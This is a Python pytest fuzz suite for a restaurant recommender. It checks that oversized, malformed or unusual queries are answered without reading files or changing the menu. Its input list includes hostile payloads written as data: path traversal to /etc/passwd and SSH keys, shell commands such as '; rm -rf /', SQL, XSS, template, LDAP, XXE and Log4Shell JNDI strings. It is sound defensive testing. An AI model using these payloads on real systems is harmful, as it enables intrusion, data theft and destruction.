"""Whatever guests type is words: it is answered soon, and does nothing else."""
# ruff: noqa: RUF001 - letters of every script

import random
from collections.abc import Iterator
from pathlib import Path

import pytest
from guard import safely

from recommender.errors import NothingAsked
from recommender.filters import Filters
from recommender.recommend import Query
from recommender.restaurant import Restaurant

SEED_CASES = 60
HUGE = {
    "one letter": "x" * 100_000,
    "one word after another": "curry " * 20_000,
    "no spaces at all": "curry" * 20_000,
    "all that a guest refuses": "no nuts, " * 12_000,
    "all that a guest asks": "vegan under 12 euros " * 5_000,
    "brackets": "(" * 100_000,
    "nested brackets": "(" * 50_000 + ")" * 50_000,
    "accents on one letter": "a" + "\u0301" * 100_000,
    "letters with accents": "e\u0301" * 50_000,
    "flags": "🇪🇸" * 25_000,
    "a family": "👨\u200d👩\u200d👧\u200d👦" * 9_000,
    "digits": "9" * 100_000,
    "prices": "under 9999999999 " * 6_000,
    "spaces": " " * 100_000,
    "lines": "\n" * 100_000,
    "letters of no script": "\U000f0000" * 50_000,
    "ligatures that grow": "\ufdfa" * 20_000,
    "backslashes": "\\" * 100_000,
    "percent signs": "%s" * 50_000,
    "words of one letter": "a b c d e f g " * 7_000,
    "misspelt": "chocolatte coconutt prawnn " * 3_700,
    "a page": "<p>curry</p>" * 8_000,
    "commas": "," * 100_000,
    "dashes": "-" * 100_000,
    "and and": "and " * 25_000,
    "without without": "without " * 12_000,
    "sin sin": "sin " * 25_000,
}
NOTHING = ["", " ", "\n\t", "\u0301", "\u2003\u3000"]
NEXT_TO_NOTHING = [
    "\0",
    "\x07\x1b",
    "\u200b",
    "\u202e",
    "\ufeff",
    "\u00ad",
    "\u2060",
    "\ufffe",
    "\ud800",
]
SHORT = [
    # characters that mean something elsewhere
    ".", "*", "%", "_", "?", "'", '"', "`", "\\", "/", "|", "&", ";", "--", "#", "$", "~", "^", "=",
    "()", "[]", "{}", "<>", "!!!", "...", "¿¡", "&&", "||", "🍜", "🌶️🌶️", "👩🏽\u200d🍳", "c\0urry",
    "cur\x1b[31mry", "curry\r\nSet-Cookie: a=b", "\u202eyrruc", "c\u200bu\u200br\u200br\u200by",
    "ｃｕｒｒｙ", "сurry", "𝓬𝓾𝓻𝓻𝔂", "CURRY\u0307", "ǅ", "ß", "ﬁsh", "ı", "\ud800", "\udfff curry", "\U0010ffff",
    # only stop words
    "the", "and or but", "i would like something please", "algo", "de la con y", "thanks", "a", "no", "sin", "without",
    "not not not", "nothing", "nada", "everything", "something else",
    # paths and addresses
    "/etc/passwd", "../../../etc/passwd", "~/.ssh/id_rsa", "C:\\Windows\\win.ini", "\\\\server\\share",
    "file:///etc/passwd", "http://192.0.2.1/curry.jpg", "https://example.com/photo.png", "ftp://a.b/c.jpeg",
    "data:image/png;base64,iVBORw0KGgo=", "photos/thumbnails/curry.jpg", "menu.csv", "streamlit_app.py",
    # injections
    "{{ 7 * 7 }}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>", "{0.__class__}", "{words}", "{name!r:>{width}}", "%(words)s", "%n%s%x",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "javascript:alert(1)",
    "'; DROP TABLE dishes; --", "' OR '1'='1", '" OR ""="', "1; SELECT pg_sleep(9)", "$(reboot)", "`reboot`",
    "; rm -rf /", "| cat /etc/passwd", "__import__('os').system('id')", "=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd",
    "!!python/object/apply:os.system", '{"$ne": null}', '{"$where": "sleep(9000)"}', "[$ne]=1", "$regex:.*",
    "*)(uid=*))(|(uid=*", '<!ENTITY x SYSTEM "file:///etc/passwd">', "${jndi:ldap://192.0.2.1/a}", "() { :;}; echo",
    # regular expressions and operators
    ".*", "(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "[", "(", "(?P<", "\\1", "a{99999}", "(?=", "x*x*x*x*x*y", "\\p{L}",
    "AND", "OR NOT", "curry AND", "NEAR/3", "name:curry", "cur*", "curry~2", "curry^9", "+curry -beef", '"curry', "NOT", "MATCH 'a'",
    # numbers
    "under -5", "under 1e309", "under 0", "between 9 and 2", "under NaN", "más de infinito", "under 99999999999999999999",
    "0x41", "½", "²", "１２", "١٢ euros", "under 12,34,56", "3.4028235e38",
    # contradictions
    "vegan beef", "no curry curry", "curry without curry", "nothing without nothing", "sin gluten con gluten",
    "without milk with milk", "cheap over 500", "under 5 over 50", "only halal pork", "no vegan",
]  # fmt: skip
PIECES = [
    *("curry", "beef", "sin", "without", "no", "under 12", "vegano", "nuts", "gluten free", "tofu"),
    *(
        "\0",
        "\x1b",
        "\u202e",
        "\u200d",
        "🍜",
        "e\u0301",
        "'",
        '"',
        "\\",
        "%",
        "(",
        ")",
        "[",
        "{",
        "<",
    ),
    *("AND", "OR", "-", "*", "?", "$", "€", "12", "-3", "9e99", "/", "://", ".jpg", "\n", "\ud83c"),
]


@pytest.fixture(autouse=True)
def unchanged(served: Restaurant) -> Iterator[None]:
    """Hold that no words change the menu."""
    before = served.catalog.revision()
    yield
    assert served.catalog.revision() == before


def answered(served: Restaurant, words: str) -> None:
    """Ask by words at every door that takes them; each answers or says that nothing is asked."""
    known = served.catalog.menu().dishes
    with safely(served.settings.data):
        for query in (
            Query(words),
            Query(restored=(words,), words="curry"),
            Query("curry " + words),
        ):
            served.recommender.understand(query)
            try:
                result = served.recommender.search(query)
            except NothingAsked as nothing:
                assert str(nothing).startswith("Say what you are looking for")  # noqa: PT017
                continue
            assert all(match.dish == known[match.dish.id] for match in result.matches)
            assert all(match.reasons or True for match in result.matches[:3])
            served.search_log.log_search(words, no_match=result.no_match, shown=[])
        served.recommender.browse(Filters())


@pytest.mark.parametrize("words", HUGE.values(), ids=HUGE)
def test_a_hundred_kilobytes_of_words_are_answered_soon(served: Restaurant, words: str) -> None:
    answered(served, words)


@pytest.mark.parametrize("words", SHORT, ids=ascii)
def test_words_that_mean_something_elsewhere_are_mere_words(served: Restaurant, words: str) -> None:
    answered(served, words)


@pytest.mark.parametrize("words", NOTHING, ids=ascii)
def test_who_says_nothing_is_asked_to_say_something(served: Restaurant, words: str) -> None:
    answered(served, words)
    with pytest.raises(NothingAsked):
        served.recommender.search(Query(words))


@pytest.mark.parametrize("words", NEXT_TO_NOTHING, ids=ascii)
def test_what_nobody_sees_asks_for_nothing_and_so_hides_no_dish(
    served: Restaurant, words: str
) -> None:
    answered(served, words)
    result = served.recommender.search(Query(words))
    assert len(result.matches) == sum(dish.available for dish in served.recommender.table().dishes)


@pytest.mark.parametrize("seed", range(SEED_CASES))
def test_any_mixture_of_words_and_signs_is_answered(served: Restaurant, seed: int) -> None:
    chance = random.Random(seed)
    between = chance.choice(["", " "])
    answered(served, between.join(chance.choices(PIECES, k=chance.randint(1, 40))))


@pytest.mark.parametrize("seed", range(20))
def test_any_characters_at_all_are_answered(served: Restaurant, seed: int) -> None:
    chance = random.Random(seed)
    answered(served, "".join(chr(chance.randrange(0x110000)) for _ in range(300)))


def test_words_that_name_a_file_do_not_read_it(served: Restaurant, tmp_path: Path) -> None:
    secret = tmp_path / "secret.jpg"
    secret.write_bytes(b"not for guests")
    answered(served, str(secret))
